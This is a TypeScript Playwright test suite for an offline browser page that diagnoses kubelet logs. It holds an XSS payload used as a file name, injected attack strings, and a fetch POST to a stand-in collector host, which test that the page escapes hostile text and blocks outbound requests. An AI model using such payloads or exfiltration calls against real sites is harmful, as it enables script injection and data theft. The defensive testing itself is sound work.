// The page that diagnoses in the browser, in a real Chromium, opened as a file.
import { mkdirSync, readFileSync, utimesSync, writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import type { AxeResults } from 'axe-core'
import { chromiumPath } from '../../scripts/browser.mjs'
import { buildPage } from '../../scripts/build-page.mjs'
import { formatHtml } from '../../src/report/html/html.ts'
import { formatMarkdown } from '../../src/report/markdown/markdown.ts'
import { redactReport } from '../../src/redact/report.ts'
import type { Report } from '../../src/report/report.ts'
import { sanitizeLine } from '../../src/report/sanitize.ts'
import { run } from '../cli/run.ts'
import { tarOf, zipOf } from '../input/archive/make.ts'
import { BZIP2, LZ4 } from '../input/compression/samples.ts'
import { ATTACKS, isOfLine } from '../report/reports.ts'
import { watch } from '../page/browser.ts'
import { choose, drop, dropFromDesktop, headline, paste, saved, WebPages } from './pages.ts'

jest.setTimeout(60_000)

const inBrowser = chromiumPath === undefined ? describe.skip : describe
const where = chromiumPath === undefined ? 'in a browser (skipped: there is no Chromium)' : 'in a browser'
const SAMPLES = new URL('../../samples/inotify-watches-exhausted/', import.meta.url)
const NAMES = ['restart-failed.log', 'watches-exhausted.log']
const [RESTART = '', WATCHES = ''] = NAMES.map((name) => readFileSync(new URL(name, SAMPLES), 'utf8'))
const HEADLINE = 'inotify watches exhausted → kubelet exited'

let pages: WebPages

beforeAll(async () => {
  if (chromiumPath !== undefined) pages = await WebPages.start()
})

afterAll(async () => {
  await (pages as WebPages | undefined)?.end()
})

/** How xz begins. */
const XZ = Buffer.from('fd377a585a000004', 'hex')

/** A file in the folder of the tests, of the day after the sample's. */
function file(name: string, bytes: string | Uint8Array): string {
  const path = join(pages.folder, name)
  writeFileSync(path, bytes)
  utimesSync(path, new Date('2024-06-03'), new Date('2024-06-03'))
  return path
}

const tidy = (text: string): string => text.replace(/\s+/g, ' ').trim()

inBrowser(`the page that diagnoses ${where}`, () => {
  test('takes a log that is dropped, and tells the incident with a timeline for the keyboard', async () => {
    const { page, wrong } = await pages.open()
    await drop(page, { name: 'kubelet.log', bytes: RESTART })
    expect(await headline(page)).toBe(HEADLINE)
    expect(await page.locator('.badges').innerText()).toMatch(/CRITICAL\s+ongoing\s+node01/)
    expect(await page.locator('.hero .command code').innerText()).toBe(
      'sudo sysctl -w fs.inotify.max_user_watches=1048576',
    )
    expect(await page.title()).toMatch(/^inotify watches exhausted on node01: .* - kubelog-diagnose$/)
    await page.locator('.mark').first().focus()
    await page.keyboard.press('End')
    await page.keyboard.press('Home')
    await page.keyboard.press('ArrowUp')
    expect(await page.locator('.detail').innerText()).toContain('cAdvisor cannot start inside kubelet')
    await page.keyboard.press('Enter')
    expect(await page.evaluate(() => document.activeElement?.id)).toMatch(/^incident-/)
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('takes lines that are pasted, anywhere or into their field, and those that are typed', async () => {
    const { page, wrong } = await pages.open()
    await paste(page, RESTART)
    expect(await headline(page)).toBe(HEADLINE)
    await page.getByRole('button', { name: 'New log' }).click()
    await paste(page, WATCHES, '#paste')
    expect(await headline(page)).toBe('inotify watches exhausted')
    await page.goBack()
    await page.locator('#paste').fill(RESTART)
    await page.getByRole('button', { name: 'Diagnose' }).click()
    expect(await headline(page)).toBe(HEADLINE)
    expect(await page.locator('.read td').first().innerText()).toBe('pasted')
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('makes the report that the command makes of the same files', async () => {
    const files = [
      [file('kubelet.log', RESTART)],
      [file('kubelet.log.gz', gzipSync(WATCHES))],
      [file('members.gz', Buffer.concat([RESTART, WATCHES].map((text) => gzipSync(text))))],
      [file('no-year.log', RESTART.replace(/^--.*\n/, '')), file('watches.log', WATCHES)],
      [file('bundle.tgz', gzipSync(await tarOf({ 'b/node1/kubelet.log': WATCHES, 'b/motd': 'hello\n' })))],
      [file('bundle.zip', zipOf({ 'b/node1/kubelet.log': WATCHES.repeat(3000), 'b/motd': 'hello\n' }))],
      [file('some.log.bz2', BZIP2), file('some.log.lz4', LZ4)],
      [file('utf-16.log', Buffer.from(`\ufeff${WATCHES}`, 'utf16le'))],
    ]
    const { page, wrong } = await pages.open()
    const before = process.cwd()
    process.chdir(pages.folder) // the page knows no folders
    try {
      for (const paths of files) {
        await choose(page, ...paths)
        const names = paths.map((path) => path.slice(pages.folder.length + 1))
        const { stdout } = await run(['-o', 'json', ...names])
        expect(JSON.parse((await saved(page, 'JSON')).text)).toEqual(JSON.parse(stdout))
        await page.goBack()
      }
    } finally {
      process.chdir(before)
    }
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('takes a folder, dropped or chosen, and reads the logs of a node in it', async () => {
    const { page, wrong } = await pages.open()
    const folder = join(pages.folder, 'node01')
    mkdirSync(join(folder, 'var/log'), { recursive: true })
    file('node01/var/log/kubelet.log', RESTART)
    file('node01/notes.txt', 'milk, bread\n')
    const takes = async (): Promise<void> => {
      expect(await headline(page)).toBe(HEADLINE)
      expect(await page.locator('.read td').first().innerText()).toBe('node01/var/log/kubelet.log')
      expect(await page.locator('.notices').innerText()).toBe("Skipped 1 file without lines of a node's log.")
    }
    await dropFromDesktop(page, folder)
    await takes()
    await page.goBack()
    await page.locator('input[webkitdirectory]').setInputFiles(folder)
    await takes()
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('works again when the browser has saved it with all that was made in it', async () => {
    const { page } = await pages.open()
    const again = pathToFileURL(file('saved.html', await page.content())).href
    const wrong = watch(page, (url) => url === again || url.startsWith('blob:'))
    await page.goto(again)
    await paste(page, RESTART)
    expect(await headline(page)).toBe(HEADLINE)
    expect(await page.locator('header.app').count()).toBe(1)
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('saves the report in the forms that the command prints', async () => {
    const { page, wrong } = await pages.open()
    await page.getByRole('button', { name: 'Try an example' }).click()
    expect(await headline(page)).toBe(HEADLINE)
    const report = JSON.parse((await saved(page, 'JSON')).text) as Report
    expect(report.inputs.map(({ name }) => name)).toEqual(NAMES)
    expect(await saved(page, 'HTML')).toEqual({
      name: 'kubelet.report.html',
      text: formatHtml(report, await buildPage()),
    })
    expect(await saved(page, 'Markdown')).toEqual({ name: 'kubelet.report.md', text: formatMarkdown(report) })
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('saves it without names when that is wanted', async () => {
    const { page, wrong } = await pages.open()
    await drop(page, { name: 'node01.log', bytes: RESTART })
    expect(await headline(page)).toBe(HEADLINE)
    const [{ name, text }, report] = [await saved(page, 'JSON'), JSON.parse((await saved(page, 'JSON')).text) as Report]
    expect({ name, hasName: text.includes('node01') }).toEqual({ name: 'node01.report.json', hasName: true })
    await page.getByRole('checkbox', { name: 'without names' }).check()
    const shared = await saved(page, 'JSON')
    expect(shared.name).toBe('kubelet.report.json')
    expect(JSON.parse(shared.text)).toEqual(redactReport(report))
    expect((await saved(page, 'HTML')).text).not.toContain('node01')
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('reads a log again with the zone, year and node that it does not say', async () => {
    const { page, wrong } = await pages.open()
    const bare = [...RESTART.matchAll(/(?<=\]: )[IWEF]\d{4} .*\n/g)].join('')
    await drop(page, { name: 'node-a.log', bytes: bare })
    const since = page.locator('.hero dd').first()
    expect(await since.innerText()).toContain('2024-06-02 15:59:24 UTC')
    await page.locator('.again summary').click()
    await page.getByLabel('Time zone').fill('Nowhere/Town')
    await page.locator('.again summary').click()
    await drop(page, { name: 'node-a.log', bytes: bare })
    expect(await page.getByLabel('Time zone').evaluate((input: HTMLInputElement) => input.validationMessage)).toMatch(
      /no such zone/,
    )
    await page.getByLabel('Time zone').fill('Asia/Tokyo')
    await page.getByLabel('Year').fill('2023')
    await page.getByRole('textbox', { name: 'Node' }).fill('node-a')
    await page.getByRole('button', { name: 'Read again' }).click()
    await page.getByText('2023-06-02 06:59:24 UTC').first().waitFor()
    expect(await page.locator('.hero .node').innerText()).toBe('node-a')
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('shows text of strangers as text, in logs and in names of files', async () => {
    const { page, wrong } = await pages.open()
    const name = '<img src=x onerror=alert(1)>\u202e.log'
    const attacks = ATTACKS.filter((attack) => !/\p{Cs}/u.test(attack) && isOfLine(attack))
    const lines = attacks.map((attack, at) => `E0602 12:${10 + at}:00.000000       7 kettle${at}.go:7] Boil ${attack}`)
    await drop(page, { name, bytes: `${lines.join('\n')}\n${RESTART}` }, { name: '<b>.xz', bytes: XZ })
    expect(await headline(page)).toBe(HEADLINE)
    await page.locator('.report details').evaluateAll((all) => all.forEach((one) => one.setAttribute('open', '')))
    const shown = tidy(await page.locator('main').innerText())
    expect(shown).toContain(sanitizeLine(name))
    for (const attack of attacks) expect(shown).toContain(tidy(sanitizeLine(attack)))
    expect(shown).toContain('<b>.xz: packed with xz')
    expect(await page.locator('main').locator('script, img, iframe, svg[onload], [onerror], [onfocus]').count()).toBe(0)
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('gives up a long reading, or ends it early with what was read, and reads on', async () => {
    const { page, wrong } = await pages.open()
    /** Longer than anybody waits, and of no size: a blob of many blobs. */
    const dropLong = (): Promise<void> =>
      page.evaluate((text) => {
        const mega = new Blob([text.repeat(200)])
        const transfer = new DataTransfer()
        transfer.items.add(
          new File(
            Array.from({ length: 2000 }, () => mega),
            'long.log',
            { lastModified: 1_719_792_000_000 },
          ),
        )
        document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }))
      }, RESTART)
    await dropLong()
    expect(await page.locator('.reading h1').innerText()).toBe('Reading long.log')
    await page.getByRole('button', { name: 'Cancel' }).click()
    expect(await page.locator('h1').innerText()).toBe('What broke this node?')
    await dropLong()
    await page.waitForFunction(() => (document.querySelector('progress')?.value ?? 0) > 0)
    await page.getByRole('button', { name: 'Stop here and show what was read' }).click()
    expect(await headline(page)).toBe(HEADLINE)
    expect(await page.locator('.notices').innerText()).toMatch(
      /^Stopped: this is the report of the first [\d,]+ lines\.$/,
    )
    await drop(page, { name: 'short.log', bytes: WATCHES })
    await page.locator('.hero.high').waitFor()
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('says what to try when a file has nothing of a failure in it', async () => {
    const { page, wrong } = await pages.open()
    const rows = [
      ['', 'The input is empty: nothing to diagnose.', 'use sudo'],
      ['dear diary\n', 'Nothing in it could be read as a log of a node: no verdict.', 'journalctl -u kubelet'],
      ['I0602 12:00:00.000000       7 kettle.go:7] "All is well"\n', 'No incident found on unknown.', 'an older part'],
    ] as const
    for (const [bytes, title, tip] of rows) {
      await drop(page, { name: 'kubelet.log', bytes })
      await page.getByRole('heading', { name: title }).waitFor()
      expect(await page.locator('.hint').innerText()).toContain(tip)
    }
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('says what it cannot read, and what was read of what is damaged', async () => {
    const { page, wrong } = await pages.open()
    await drop(page, { name: 'system.journal', bytes: 'LPKSHHRH\0\0\0\0' }, { name: 'a.xz', bytes: XZ })
    const notes = page.locator('.notices')
    expect(await notes.innerText()).toContain('system.journal: a binary journal')
    expect(await notes.innerText()).toContain('a.xz: packed with xz, which this page does not read: unpack it first')
    expect(await page.locator('h1').innerText()).toBe('What broke this node?')
    const packed = gzipSync(`${RESTART}${WATCHES.repeat(200)}`)
    await drop(page, { name: 'cut.log.gz', bytes: packed.subarray(0, packed.length - 20) })
    expect(await headline(page)).toBe(HEADLINE)
    expect(await notes.innerText()).toBe('cut.log.gz: gzip data ends too early: the file was cut off')
    expect(wrong).toEqual([])
    await page.context().close()
  })

  test('can send nothing anywhere, nor can its worker', async () => {
    const { page } = await pages.open()
    const tried = async (): Promise<string> => {
      try {
        await fetch('https://collector.example/', { method: 'POST', body: 'x', mode: 'no-cors' })
        return 'sent'
      } catch (error) {
        return String(error)
      }
    }
    expect(await page.evaluate(tried)).toMatch(/Failed to fetch|violates/)
    const [worker] = page.workers()
    expect(await worker?.evaluate(tried)).toMatch(/Failed to fetch|violates/)
    await page.context().close()
  })

  test('has no barrier that axe finds, in light and dark', async () => {
    const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
    const { page } = await pages.open({ bypassCSP: true })
    await page.evaluate(axe)
    /** In dark only the colours are others. */
    const violations = async (): Promise<string[]> => {
      const found: string[] = []
      for (const [colorScheme, only] of [['light'], ['dark', 'color-contrast']] as const) {
        await page.emulateMedia({ colorScheme })
        const { violations } = await page.evaluate(
          (options) =>
            (globalThis as unknown as { axe: { run(options: object): Promise<AxeResults> } }).axe.run(options), // the script has just set it
          only === undefined ? {} : { runOnly: [only] },
        )
        found.push(...violations.map(({ id, nodes }) => `${colorScheme}, ${id}: ${nodes[0]?.html}`))
      }
      return found
    }
    await page.locator('summary').click()
    expect(await violations()).toEqual([])
    await drop(page, { name: 'kubelet.log', bytes: RESTART.replace(/^--.*\n/, '') }, { name: 'a.xz', bytes: XZ })
    expect(await headline(page)).toBe(HEADLINE)
    await page.locator('.again summary').click()
    expect(await violations()).toEqual([])
    await page.context().close()
  })

  test('fits a phone, and is used by keyboard alone', async () => {
    const { page, wrong } = await pages.open({ viewport: { width: 360, height: 740 } })
    const width = (): Promise<number> => page.evaluate(() => document.documentElement.scrollWidth)
    expect(await width()).toBe(360)
    const chooser = page.waitForEvent('filechooser')
    await page.getByRole('button', { name: 'Choose files' }).focus()
    await page.keyboard.press('Enter')
    await (await chooser).setFiles({ name: 'kubelet.log', mimeType: 'text/plain', buffer: Buffer.from(RESTART) })
    expect(await headline(page)).toBe(HEADLINE)
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('H1')
    expect(await page.getByRole('status').innerText()).toBe('1 incident on 1 node.')
    expect(await width()).toBe(360)
    expect(wrong).toEqual([])
    await page.context().close()
  })
})
